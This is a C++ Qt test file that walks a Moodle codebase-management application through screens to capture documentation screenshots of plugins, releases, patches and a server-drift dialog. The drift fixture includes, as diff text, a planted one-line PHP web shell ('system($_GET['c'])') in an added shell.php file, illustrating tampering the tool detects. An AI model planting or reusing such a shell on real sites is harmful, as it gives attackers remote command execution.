// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/ui/screenshots/CodebaseScenes.h"

#include "core/base/WriteFile.h"
#include "models/codebase/PluginsModel.h"
#include "tests/ui/support/Ready.h"
#include "ui/codebase/CodebasePage.h"
#include "ui/codebase/ProjectView.h"
#include "ui/common/QuestionDialog.h"
#include "ui/delivery/DriftDialog.h"
#include "ui/jobs/JobTracker.h"
#include "ui/window/MainWindow.h"

#include <QAbstractButton>
#include <QAction>
#include <QComboBox>
#include <QDialog>
#include <QLabel>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QTableView>
#include <QTreeView>

#include <algorithm>

namespace quai::test {

using codebase::DeclaredPlugin;
using codebase::Project;

namespace {

constexpr int waitMs = 30'000;
constexpr int settleMs = 400;

template <class Widget>
Widget *visible(const QWidget &parent, const char *name)
{
    for (Widget *widget : parent.findChildren<Widget *>(QString::fromLatin1(name)))
        if (widget->isVisible())
            return widget;
    return nullptr;
}

bool click(const QWidget &parent, const char *name)
{
    const bool ready = QTest::qWaitFor(
        [&] {
            const auto *button = visible<QAbstractButton>(parent, name);
            return button != nullptr && button->isEnabled();
        },
        waitMs);
    if (!ready) {
        qWarning("no button %s that can be pressed", name);
        return false;
    }
    QTest::mouseClick(visible<QAbstractButton>(parent, name), Qt::LeftButton);
    return true;
}

bool waitForText(const QWidget &parent, const char *label, const QStringList &parts)
{
    return QTest::qWaitFor(
        [&] {
            const auto *found = visible<QLabel>(parent, label);
            return found != nullptr && std::any_of(parts.cbegin(), parts.cend(), [found](const QString &part) {
                       return found->text().contains(part);
                   });
        },
        waitMs);
}

DeclaredPlugin plugin(const char *component, const QString &source, const QString &version, const QString &note)
{
    DeclaredPlugin plugin;
    plugin.component = codebase::ComponentName::parse(QString::fromLatin1(component)).value();
    plugin.source = source;
    plugin.version = version;
    plugin.note = note;
    return plugin;
}

} // namespace

CodebaseScenes::CodebaseScenes(ui::MainWindow &window, Picture picture)
    : m_window(window)
    , m_picture(std::move(picture))
{
    fillSources();
}

void CodebaseScenes::fillSources()
{
    // What one repository holds under several names stands in for as many plugins.
    const auto add = [this](const char *ref, const char *component, const char *version, const char *more = "") {
        m_scene.xp.commit(QString::fromLatin1(ref), tests::pluginFiles(component, version, more));
    };
    add("refs/tags/xp-3.15", "block_xp", "2024042100", "$plugin->release = '3.15.2';");
    add("refs/tags/attendance", "mod_attendance", "2024072401", "$plugin->release = '4.5.1';");
    add("refs/tags/old", "local_old", "2019010100",
        "$plugin->release = '1.0'; $plugin->supported = [39, 311]; $plugin->incompatible = 400;");
    add("refs/tags/needy", "tool_needy", "2024010100", "$plugin->supported = [400, 403];");
}

Project CodebaseScenes::declaration()
{
    Project project = m_scene.project();
    project.name = QStringLiteral("Campus numérique");
    project.plugins[0].note = QStringLiteral("H5P");
    const QString source = m_scene.xp.repository.path();
    project.plugins.append(plugin("block_xp", source, QStringLiteral("xp-3.15"), {}));
    project.plugins.append(
        plugin("mod_attendance", source, QStringLiteral("attendance"), QStringLiteral("Émargement")));
    project.plugins.append(plugin("tool_needy", source, QStringLiteral("needy"), {}));
    return project;
}

void CodebaseScenes::tab(const QString &name) const
{
    if (ui::ProjectView *view = m_window.findChild<ui::CodebasePage *>()->currentView())
        view->showTab(name);
    QTest::qWait(settleMs);
}

bool CodebaseScenes::run()
{
    m_window.showPage(QStringLiteral("codebase"));
    QTest::qWait(settleMs);
    if (m_window.findChild<ui::CodebasePage *>() == nullptr)
        return false;
    m_picture(m_window, QStringLiteral("codebase-empty"));
    return showsTheProject() && synchronises() && releases() && meetsAPatchThatDoesNotFit() && asksWhatIf()
        && showsTheDialogs() && showsDrift();
}

bool CodebaseScenes::showsTheProject()
{
    const Project project = declaration();
    const auto made = codebase::ProjectFolder::create(
        m_scene.folder(), codebase::formatProject(project).value(),
        {QStringLiteral("Marie"), QStringLiteral("marie@example.org"), QDateTime::currentDateTimeUtc()});
    if (!made)
        return false;
    m_window.findChild<ui::CodebasePage *>()->showProject(m_scene.folder());
    if (!click(m_window, "fetchSources") || !waitForText(m_window, "glance", {QStringLiteral("5 ")}))
        return false;
    QTest::qWait(2 * settleMs);
    m_picture(m_window, QStringLiteral("codebase-plugins"));
    tab(QStringLiteral("text"));
    auto *editor = visible<QPlainTextEdit>(m_window, "projectEditor");
    if (editor == nullptr)
        return false;
    editor->moveCursor(QTextCursor::End);
    editor->insertPlainText(QStringLiteral("- not a plugin\n"));
    QTest::qWait(2 * settleMs);
    m_picture(m_window, QStringLiteral("codebase-text"));
    const bool discarded = click(m_window, "discardText");
    tab(QStringLiteral("plugins"));
    return discarded;
}

bool CodebaseScenes::synchronises()
{
    if (!click(m_window, "synchronise"))
        return false;
    const auto question = [this] { return m_window.findChild<ui::QuestionDialog *>(); };
    if (!QTest::qWaitFor([question] { return question() != nullptr; }, waitMs))
        return false;
    QTest::qWait(settleMs);
    m_picture(*question(), QStringLiteral("codebase-synchronise"));
    if (!click(*question(), "accept"))
        return false;
    return waitForText(m_window, "glance", {QStringLiteral("Tout est"), QStringLiteral("Everything")});
}

bool CodebaseScenes::makesARelease()
{
    if (!click(m_window, "makeRelease"))
        return false;
    auto *question = m_window.findChild<ui::QuestionDialog *>();
    if (question == nullptr)
        return false;
    question->findChild<QLineEdit *>(QStringLiteral("field"))->setText(QStringLiteral("Rentrée"));
    const auto count = [this] {
        const auto *table = visible<QTableView>(m_window, "releasesTable");
        return table != nullptr ? table->model()->rowCount() : 0;
    };
    const int before = count();
    return click(*question, "accept") && QTest::qWaitFor([&] { return count() == before + 1; }, waitMs);
}

bool CodebaseScenes::releases()
{
    tab(QStringLiteral("releases"));
    if (!makesARelease())
        return false;
    m_scene.save([](Project &project) {
        project.plugins[0].version = QStringLiteral("v2");
        project.plugins.removeAt(3);
    });
    if (!synchronises() || !makesARelease())
        return false;
    auto *table = visible<QTableView>(m_window, "releasesTable");
    table->clearSelection();
    table->selectRow(0);
    if (!QTest::qWaitFor([this] { return visible<QTreeView>(m_window, "comparedFiles") != nullptr; }, waitMs))
        return false;
    auto *files = visible<QTreeView>(m_window, "comparedFiles");
    const QModelIndex folder = files->model()->index(0, 0);
    files->setCurrentIndex(files->model()->index(0, 0, folder));
    QTest::qWait(2 * settleMs);
    m_picture(m_window, QStringLiteral("codebase-releases"));
    tab(QStringLiteral("inventory"));
    m_picture(m_window, QStringLiteral("codebase-inventory"));
    return true;
}

bool CodebaseScenes::meetsAPatchThatDoesNotFit()
{
    tab(QStringLiteral("plugins"));
    const QString file = QStringLiteral("hvp-footer.patch");
    const Status written
        = writeFile(m_scene.folder() + QLatin1Char('/') + file,
                    "--- a/lib.php\n+++ b/lib.php\n@@ -1 +1 @@\n-<?php // mod_hvp 1999\n+<?php // mended\n");
    m_scene.save([&file](Project &project) { project.plugins[0].patches = {file}; });
    if (!written || !click(m_window, "synchronise"))
        return false;
    const bool shown
        = QTest::qWaitFor([this] { return visible<QAbstractButton>(m_window, "showErrorDetails") != nullptr; }, waitMs)
        && click(m_window, "showErrorDetails");
    QTest::qWait(2 * settleMs);
    m_picture(m_window, QStringLiteral("codebase-patch"));
    m_scene.save([](Project &project) { project.plugins[0].patches.clear(); });
    return shown && click(m_window, "hideError");
}

bool CodebaseScenes::asksWhatIf()
{
    tab(QStringLiteral("whatif"));
    if (!click(m_window, "whatIfCalculate")
        || !QTest::qWaitFor([this] { return visible<QTableView>(m_window, "whatIfTable") != nullptr; }, waitMs))
        return false;
    auto *matrix = visible<QTableView>(m_window, "whatIfTable");
    matrix->setCurrentIndex(matrix->model()->index(1, 1));
    QTest::qWait(settleMs);
    m_picture(m_window, QStringLiteral("codebase-whatif"));
    tab(QStringLiteral("plugins"));
    return true;
}

bool CodebaseScenes::showsTheDialogs()
{
    for (const char *name : {"addFromDirectory", "addFromAddress", "addFromList", "newProject"}) {
        QAction *action = nullptr;
        for (QAction *one : m_window.findChildren<QAction *>(QString::fromLatin1(name)))
            action = one;
        if (action == nullptr || !action->isEnabled())
            return false;
        action->trigger();
        QTest::qWait(2 * settleMs);
        QDialog *dialog = nullptr;
        for (QDialog *one : m_window.findChildren<QDialog *>())
            if (one->isVisible())
                dialog = one;
        if (dialog == nullptr)
            return false;
        if (auto *list = dialog->findChild<QPlainTextEdit *>(QStringLiteral("pluginList")))
            list->setPlainText(QStringLiteral("mod_hvp\nmod_checklist v4.1\nnothing here\n"));
        m_picture(*dialog, QStringLiteral("codebase-dialog-%1").arg(QString::fromLatin1(name)));
        dialog->reject();
        QTest::qWait(settleMs);
    }
    return true;
}

/// The dialog alone: the site of these pictures has no server.
bool CodebaseScenes::showsDrift()
{
    using delivery::FileChange;
    delivery::Drift drift;
    drift.commit = QStringLiteral("e911b5a462");
    drift.files = {{FileChange::Kind::Modified, QStringLiteral("lib/setuplib.php"), true},
                   {FileChange::Kind::Added, QStringLiteral("mod/hvp/pix/shell.php"), true},
                   {FileChange::Kind::Added, QStringLiteral("robots.txt"), false},
                   {FileChange::Kind::Removed, QStringLiteral("admin/tool/installaddon/index.php"), true}};
    drift.difference = "--- a/lib/setuplib.php\n+++ b/lib/setuplib.php\n@@ -118,4 +118,5 @@\n function "
                       "default_exception_handler($ex) {\n     global $CFG;\n-    $debug = false;\n+    $debug = "
                       "true; // by hand, 12 March\n+    error_log($ex);\n     abort_all_db_transactions();\n"
                       "--- /dev/null\n+++ b/mod/hvp/pix/shell.php\n@@ -0,0 +1 @@\n+<?php system($_GET['c']);\n";
    ui::JobTracker jobs;
    const auto source = [&drift](const auto &, const CancelSource &) { return ready<delivery::Drift>(drift); };
    ui::DriftDialog dialog(source, nullptr, QStringLiteral("academy"), QStringLiteral("Moodle Académie"), jobs,
                           &m_window);
    dialog.setAttribute(Qt::WA_DeleteOnClose, false);
    dialog.show();
    auto *tree = dialog.findChild<QTreeView *>(QStringLiteral("driftTree"));
    QTest::qWait(settleMs);
    const QModelIndexList found
        = tree->model()->match(tree->model()->index(0, 0), Qt::DisplayRole, QStringLiteral("setuplib.php"), 1,
                               Qt::MatchExactly | Qt::MatchRecursive);
    tree->setCurrentIndex(found.value(0));
    QTest::qWait(settleMs);
    m_picture(dialog, QStringLiteral("codebase-drift"));
    return true;
}

} // namespace quai::test
